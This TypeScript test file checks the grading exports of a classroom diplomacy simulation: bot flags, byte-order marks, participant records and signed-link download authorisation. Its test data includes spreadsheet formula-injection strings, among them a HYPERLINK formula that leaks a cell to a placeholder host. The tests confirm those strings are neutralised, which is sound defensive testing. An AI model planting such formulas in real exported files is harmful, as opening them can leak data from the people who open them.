// Over 300 lines: every export table and the download authorisation (signed links, Bearer,
// refusals) against one finished game, which is set up once.
import { createTRPCClient, httpBatchLink } from "@trpc/client";
import { ClientEvent, directChannel, type Joined } from "@threatscape/protocol";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import superjson from "superjson";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AppRouter } from "../src/index.ts";
import { signExportToken } from "../src/review/export-links.ts";
import { bearer, startTestServer } from "./helpers.ts";
import { LiveClient } from "./live-client.ts";

type Cells = Record<string, string>;
const tables = [
  "events",
  "messages",
  "treaties",
  "predictions",
  "scores",
  "grades",
  "participants",
] as const;
// Names, messages, group and pact names a class could type, each one a live formula if a
// spreadsheet ran it (issue 12, defect 2).
const FORMULA_NAME = `=HYPERLINK("x.invalid/?"&A1,"Go")`;
const PACT = "=Tokyo-Seoul pact";
const GROUP = "@Quad chat";

/**
 * Issue 12, defects 1-4, reproduced in one short game: Zoë (JPN) rejoins by token and later
 * joins afresh on a second device; two students share KOR; a bot stands in for KOR after the
 * students acted in round 1, and holds JPN for a moment in round 2 without acting.
 */
describe("exports a grader can trust", () => {
  let server: Awaited<ReturnType<typeof startTestServer>>;
  let trpc: ReturnType<typeof createTRPCClient<AppRouter>>;
  let staff: { gameId: string; secret: string };
  let host: { gameId: string; secret: string };
  let zoe: Joined;
  let zoeAgain: Joined;
  let eve: Joined;
  let min: Joined;
  const clients: LiveClient[] = [];

  const connect = async () => {
    const client = new LiveClient(server.url);
    clients.push(client);
    await client.connected();
    return client;
  };
  const download = async (table: string, format: "csv" | "json") => {
    const response = await fetch(
      `${server.url}/export/${staff.gameId}/${table}.${format}`,
      bearer(staff.secret),
    );
    expect(response.status).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };
  const csv = async (table: string): Promise<Cells[]> => {
    const text = new TextDecoder().decode(await download(table, "csv")); // drops the BOM
    return Papa.parse<Cells>(text, { header: true, skipEmptyLines: true }).data;
  };
  const csvHeader = async (table: string) =>
    new TextDecoder().decode(await download(table, "csv")).split("\r\n")[0]!;
  const json = async <T = Record<string, unknown>>(table: string): Promise<T[]> =>
    JSON.parse(new TextDecoder().decode(await download(table, "json"))) as T[];

  beforeAll(async () => {
    server = await startTestServer();
    trpc = createTRPCClient<AppRouter>({
      links: [httpBatchLink({ url: `${server.url}/trpc`, transformer: superjson })],
    });
    const created = await trpc.sessions.create.mutate({
      title: "Exports",
      presetId: "east-asia-2017",
      seed: 5,
    });
    if (!created.ok) throw new Error(created.message);
    staff = { gameId: created.gameId, secret: created.staffSecret };
    host = { gameId: created.gameId, secret: created.instructorSecret };
    const instructor = await connect();
    await instructor.ok(ClientEvent.attachInstructor, {
      gameId: created.gameId,
      instructorSecret: created.instructorSecret,
    });
    const join = async (displayName: string, stateId: string) => {
      const client = await connect();
      const joined = await client.ok(ClientEvent.join, {
        joinCode: created.joinCode,
        displayName,
        stateId,
      });
      return { client, joined };
    };
    const japan = await join("Zoë", "JPN");
    const korea1 = await join(FORMULA_NAME, "KOR");
    const korea2 = await join("+Min", "KOR");
    [zoe, eve, min] = [japan.joined, korea1.joined, korea2.joined];
    await instructor.command({ command: "start" });

    // Round 1, negotiation: students talk and make a pact.
    await japan.client.ok(ClientEvent.sendMessage, {
      channel: directChannel("JPN", "KOR"),
      body: "-2+3 is our margin",
    });
    const group = await korea1.client.ok(ClientEvent.createGroup, {
      name: GROUP,
      members: ["JPN"],
    });
    await korea1.client.ok(ClientEvent.sendMessage, { channel: group.channel, body: "Hello" });
    await korea2.client.ok(ClientEvent.sendMessage, {
      channel: directChannel("JPN", "KOR"),
      body: "Min here",
    });
    const proposed = await japan.client.act({
      type: "propose-treaty",
      terms: { kind: "defence", name: PACT, members: ["JPN", "KOR"], directedAgainst: ["PRK"] },
    });
    if (!proposed.ok) throw new Error(proposed.error.message);
    const proposalId = await korea1.client
      .until((s) => Object.keys(s.view.proposals as object).length > 0)
      .then((s) => Object.keys(s.view.proposals as object)[0]!);
    const accepted = await korea1.client.act({ type: "accept-treaty", proposalId });
    if (!accepted.ok) throw new Error(accepted.error.message);

    // Zoë's laptop sleeps: a new connection resumes her seat with her rejoin token.
    japan.client.close();
    const back = await connect();
    await back.ok(ClientEvent.resume, { rejoinToken: zoe.rejoinToken });
    await back.ok(ClientEvent.sendMessage, { channel: "public", body: "@all back online" });

    // Round 1, orders: a bot takes over Korea after its students acted, and submits orders.
    await instructor.timing("advance");
    await instructor.command({ command: "set-bot", stateId: "KOR", policy: "walt" });
    await instructor.command({ command: "set-bot", stateId: "KOR", policy: null });
    await instructor.timing("advance"); // round 2, news
    await instructor.until((s) => s.timing.round === 2, "round 2");
    // Round 2, news: a bot holds Japan for a moment; states cannot act in the news phase.
    await instructor.command({ command: "set-bot", stateId: "JPN", policy: "walt" });
    await instructor.command({ command: "set-bot", stateId: "JPN", policy: null });
    await instructor.timing("advance"); // round 2, negotiation
    const orders = await back.act({ type: "no-change" });
    if (!orders.ok) throw new Error(orders.error.message);

    // A fresh join under the same name (a second device, no token, no seat PIN): a new
    // participant, "Zoë (2)", unseated after the start until the instructor seats her.
    const second = await join("Zoë", "JPN");
    zoeAgain = second.joined;
    expect(zoeAgain).toMatchObject({ stateId: null, displayName: "Zoë (2)" });
    await instructor.command({
      command: "assign",
      participantId: zoeAgain.participantId,
      stateId: "JPN",
    });
    await second.client.ok(ClientEvent.sendMessage, { channel: "public", body: "second device" });
    await instructor.timing("advance");
    await instructor.timing("advance"); // round 3, news
    await instructor.until((s) => s.timing.round === 3, "round 3");
    await instructor.timing("end");

    await trpc.review.annotations.add.mutate({
      ...staff,
      participantId: eve.participantId,
      stateId: "KOR",
      round: 1,
      criterion: "@Negotiation",
      note: "=1+1 shows the pact was hers",
      grade: 7,
      author: "+TA Lee",
    });
  });
  afterAll(async () => {
    for (const client of clients) client.close();
    await server.close();
  });

  it("flags a row as bot-played exactly when its own actor was a bot (defect 1)", async () => {
    const events = await csv("events");
    const actions = events.filter((row) => row.type === "engine:action");
    for (const row of actions)
      expect(row.bot).toBe(row.actor?.startsWith("bot:") ? "true" : "false");
    // Korea's students acted before the bot existed: their rows are theirs.
    const accept = actions.find((row) => row.summary?.startsWith("KOR ratified"));
    expect(accept).toMatchObject({ participantId: eve.participantId, bot: "false" });
    expect(
      actions.some((row) => row.actor === "bot:walt" && row.state === "KOR" && row.round === "1"),
    ).toBe(true);
    for (const row of await csv("messages")) expect(row.bot).toBe("false");

    // The state-round tables and the debrief: KOR round 1 was partly played by the bot (its
    // orders); JPN round 2 was not, although a bot held the seat during the news phase.
    const predictions = await json<{ round: number; state: string; bot: string | null }>(
      "predictions",
    );
    const cell = (round: number, state: string) =>
      predictions.find((row) => row.round === round && row.state === state)?.bot;
    expect(cell(1, "KOR")).toBe("walt");
    expect(cell(1, "JPN")).toBeNull();
    expect(cell(2, "JPN")).toBeNull();
    expect(cell(2, "KOR")).toBeNull();
    const debrief = await trpc.review.debrief.query(staff);
    expect(debrief.botsByRound[1]?.KOR).toBe("walt");
    expect(debrief.botsByRound[1]).not.toHaveProperty("JPN");
    expect(debrief.botsByRound[2] ?? {}).not.toHaveProperty("JPN");
    const summary = await trpc.review.studentSummary.query({
      ...staff,
      participantId: zoe.participantId,
    });
    expect(summary.rounds.map((r) => r.bot)).toEqual([null, null]);
  });

  it("neutralises every formula in every CSV, keeps numbers, keeps JSON raw (defect 2)", async () => {
    for (const table of tables) {
      for (const row of await csv(table))
        for (const [column, value] of Object.entries(row))
          expect(value, `${table}.${column}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const messages = await csv("messages");
    expect(messages.map((row) => row.body)).toEqual([
      "'-2+3 is our margin",
      "Hello",
      "Min here",
      "'@all back online",
      "second device",
    ]);
    expect(messages.find((row) => row.body === "Hello")).toMatchObject({
      participant: `'${FORMULA_NAME}`,
      channelName: `'${GROUP}`,
    });
    const grade = (await csv("grades"))[0];
    expect(grade).toMatchObject({
      participant: `'${FORMULA_NAME}`,
      criterion: "'@Negotiation",
      note: "'=1+1 shows the pact was hers",
      author: "'+TA Lee",
      grade: "7",
    });
    const raw = await json<{ body: string; participant: string }>("messages");
    expect(raw.map((row) => row.body)[0]).toBe("-2+3 is our margin");
    expect(raw[1]?.participant).toBe(FORMULA_NAME);
    const rawGrade = (await json<{ note: string; grade: number }>("grades"))[0];
    expect(rawGrade).toMatchObject({ note: "=1+1 shows the pact was hers", grade: 7 });
  });

  it("starts every CSV with the UTF-8 byte-order mark, and no JSON (defect 3)", async () => {
    for (const table of tables) {
      expect([...(await download(table, "csv")).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect((await download(table, "json"))[0]).toBe("[".charCodeAt(0));
    }
    const bytes = await download("participants", "csv");
    // "Zoë" in UTF-8: 5a 6f c3 ab.
    expect(Buffer.from(bytes).includes(Buffer.from([0x5a, 0x6f, 0xc3, 0xab]))).toBe(true);
  });

  it("names participants, groups and pacts beside their ids (defect 4)", async () => {
    const messages = await csv("messages");
    const korea = messages.filter((row) => row.state === "KOR");
    expect(korea.map((row) => [row.participantId, row.participant])).toEqual([
      [eve.participantId, `'${FORMULA_NAME}`],
      [min.participantId, "'+Min"],
    ]);
    expect(messages.find((row) => row.body === "Hello")).toMatchObject({
      channelName: `'${GROUP}`,
      channelMembers: "JPN KOR",
    });
    expect(messages.find((row) => row.body === "Min here")).toMatchObject({
      channel: "dm:JPN:KOR",
      channelName: "Direct: JPN and KOR",
    });
    const accept = (await csv("events")).find((row) => row.summary?.startsWith("KOR ratified"));
    expect(accept).toMatchObject({ subjectName: `'${PACT}`, subjectKind: "defence" });
    expect(accept?.subjectId).toMatch(/^P\d+$/);
    const propose = (await csv("events")).find(
      (row) => row.participantId === zoe.participantId && row.summary?.includes(" proposed "),
    );
    expect(propose).toMatchObject({ subjectId: accept?.subjectId, participant: "Zoë" });
    const treaty = (await csv("treaties")).find((row) => row.id === accept?.subjectId);
    expect(treaty).toMatchObject({
      name: `'${PACT}`,
      kind: "defence",
      tariffCut: "0",
      basing: "",
      endsAfterRound: "",
      leaving: "",
      proposedBy: "JPN",
      proposerParticipantId: zoe.participantId,
      proposer: "Zoë",
      bot: "false",
    });
    // Both students seated at Korea held it in round 1 (Min only chatted): both are named.
    const scores = await csv("scores");
    expect(scores.find((row) => row.round === "1" && row.state === "KOR")).toMatchObject({
      participantIds: `${eve.participantId} ${min.participantId}`,
      participants: `'${FORMULA_NAME}; +Min`,
    });
  });

  it("carries each state's bloc at the end of every round, as the debrief and the map show it", async () => {
    const rows = await json<{
      round: number;
      state: string;
      bloc: number | null;
      blocMembers: string | null;
    }>("predictions");
    const at = (round: number, state: string) =>
      rows.find((r) => r.round === round && r.state === state)!;
    // the Taiwan Relations Act (an entente naming China) puts Taiwan in the US camp's bloc
    expect(at(1, "TWN").bloc).not.toBeNull();
    expect(at(1, "TWN").bloc).toBe(at(1, "USA").bloc);
    expect(at(1, "USA").blocMembers?.split(" ")).toEqual(
      expect.arrayContaining(["USA", "JPN", "TWN"]),
    );
    expect(at(1, "PRK").bloc).not.toBe(at(1, "USA").bloc);
    expect(await csvHeader("predictions")).toContain("bloc,blocMembers");
  });

  it("keeps a student who rejoined by token as one record (defect 4)", async () => {
    const participants = await csv("participants");
    expect(participants.map((row) => row.participantId)).toEqual([
      zoe.participantId,
      eve.participantId,
      min.participantId,
      zoeAgain.participantId,
    ]);
    // Zoë's messages before and after her rejoin count on one record; the second device
    // is a new participant: listed apart and pointed out, never merged by name.
    expect(participants[0]).toMatchObject({
      participant: "Zoë",
      messages: "2",
      actions: "2",
      sameNameAs: zoeAgain.participantId,
    });
    expect(participants[3]).toMatchObject({ messages: "1", sameNameAs: zoe.participantId });
    const students = await trpc.review.students.query(staff);
    expect(students.filter((s) => s.id === zoe.participantId)).toHaveLength(1);
    expect(students.find((s) => s.id === zoe.participantId)?.messages).toBe(2);
  });

  it("serves the grading workbook: one .xlsx with a sheet per table, cells typed, no formula", async () => {
    const response = await fetch(
      `${server.url}/export/${staff.gameId}/workbook.xlsx`,
      bearer(staff.secret),
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toContain("spreadsheetml");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([...tables]);
    const participants = workbook.getWorksheet("participants")!;
    const header = (participants.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual((await csvHeader("participants")).split(","));
    const column = (name: string) => header.indexOf(name) + 1;
    // The rows and order of the CSV; accents intact; the formula-like name is text, raw.
    expect(participants.rowCount).toBe(1 + 4);
    expect(participants.getRow(2).getCell(column("participant")).value).toBe("Zoë");
    expect(participants.getRow(2).getCell(column("messages")).value).toBe(2);
    const eveCell = participants.getRow(3).getCell(column("participant"));
    expect(eveCell.value).toBe(FORMULA_NAME);
    expect(eveCell.type).toBe(ExcelJS.ValueType.String);
    // Same auth as the other exports.
    const wrong = await fetch(
      `${server.url}/export/${staff.gameId}/workbook.xlsx`,
      bearer("x".repeat(32)),
    );
    expect(wrong.status).toBe(401);
  });

  it("downloads by a signed link without the secret in the URL; expired, forged or ?key= refused with a code", async () => {
    const link = await trpc.review.exportLink.mutate({
      ...staff,
      file: { table: "events", format: "csv" },
    });
    expect(link.url).not.toContain(staff.secret);
    expect(link.url).toMatch(/^\/export\/[^/]+\/events\.csv\?token=\d{13}\.[\w-]{43}$/);
    const ok = await fetch(`${server.url}${link.url}`);
    expect(ok.status).toBe(200);
    expect(await ok.arrayBuffer()).toEqual((await download("events", "csv")).buffer);
    const code = async (url: string, init?: RequestInit) => {
      const response = await fetch(`${server.url}${url}`, init);
      return {
        status: response.status,
        ...((await response.json()) as { error: { code: string } }),
      };
    };
    // The link names one file: another table with the same token is not valid.
    expect(await code(link.url.replace("events.csv", "messages.csv"))).toMatchObject({
      status: 401,
      error: { code: "LINK_INVALID" },
    });
    const [path, token] = link.url.split("?token=") as [string, string];
    const [expires, mac] = token.split(".") as [string, string];
    const forged = `${expires}.${mac.startsWith("A") ? "B" : "A"}${mac.slice(1)}`;
    expect(await code(`${path}?token=${forged}`)).toMatchObject({
      status: 401,
      error: { code: "LINK_INVALID" },
    });
    // An expired token signed with the game's real key (as the server would have a while ago).
    const record = (await server.registry.record(staff.gameId))!;
    const stale = signExportToken(record, staff.gameId, "events.csv", Date.now() - 2 * 60_000);
    expect(await code(`${path}?token=${stale}`)).toMatchObject({
      status: 401,
      error: { code: "LINK_EXPIRED" },
    });
    expect(await code(`${path}?token=not-a-token`)).toMatchObject({
      status: 400,
      error: { code: "BAD_REQUEST" },
    });
    // No credential at all: 401, saying how to send one.
    expect(await code(path)).toMatchObject({ status: 401, error: { code: "UNAUTHORISED" } });
    // The old form, a secret in the query string, is refused even when the secret is right.
    expect(await code(`${path}?key=${encodeURIComponent(staff.secret)}`)).toMatchObject({
      status: 400,
      error: { code: "SECRET_IN_URL" },
    });
    // Asking for a link needs the secret like every review procedure.
    await expect(
      trpc.review.exportLink.mutate({
        gameId: staff.gameId,
        secret: "x".repeat(32),
        file: { table: "events", format: "csv" },
      }),
    ).rejects.toThrow(/wrong session or secret/);
  });

  it("lists an instructor's sessions by secret (My sessions): title and progress for the right one, refused otherwise", async () => {
    const mine = await trpc.sessions.mine.query({
      sessions: [
        host,
        { gameId: host.gameId, secret: "y".repeat(32) },
        // The staff secret grades; it does not run the session, so it lists nothing.
        staff,
        { gameId: "g_nosuchgame", secret: host.secret },
      ],
    });
    expect(mine[0]).toMatchObject({
      gameId: host.gameId,
      ok: true,
      title: expect.any(String),
      joinCode: expect.stringMatching(/^[A-Z0-9]{6}$/),
      status: expect.stringMatching(/^(running|paused|finished)$/),
      rounds: expect.any(Number),
    });
    expect(mine.slice(1)).toEqual([
      { gameId: host.gameId, ok: false, reason: "refused" },
      { gameId: staff.gameId, ok: false, reason: "refused" },
      { gameId: "g_nosuchgame", ok: false, reason: "refused" },
    ]);
    await expect(
      trpc.sessions.mine.query({ sessions: Array.from({ length: 21 }, () => host) }),
    ).rejects.toThrow();
  });
});
